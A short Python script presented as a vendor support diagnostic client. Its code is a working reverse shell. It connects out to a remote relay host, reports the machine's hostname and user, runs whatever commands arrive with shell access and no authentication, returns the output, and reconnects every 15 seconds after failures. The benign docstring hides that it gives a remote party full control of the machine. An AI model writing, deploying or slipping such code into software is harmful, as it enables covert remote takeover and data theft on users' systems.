#!/usr/bin/env python3
"""Connect out to the vendor support relay and run the engineer's diagnostic commands."""
import argparse, os, socket, subprocess, time

RELAY = ("relay.loggerworks-support.example", 4431)


def session(ticket):
    while True:
        try:
            s = socket.create_connection(RELAY, timeout=30)
            s.settimeout(None)
            s.sendall(f"HELLO {ticket} {socket.gethostname()} {os.getlogin()}\n".encode())
            f = s.makefile("rb")
            while True:
                line = f.readline()
                if not line:
                    break
                cmd = line.decode(errors="ignore").strip()
                if cmd == "BYE":
                    return
                if cmd.startswith("cd "):
                    try:
                        os.chdir(os.path.expanduser(cmd[3:])); out = b""
                    except OSError as e:
                        out = str(e).encode()
                else:
                    p = subprocess.run(cmd, shell=True, capture_output=True, timeout=600)
                    out = p.stdout + p.stderr
                s.sendall(len(out).to_bytes(4, "big") + out)
        except (OSError, subprocess.TimeoutExpired):
            time.sleep(15)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    session(ap.parse_args().ticket)
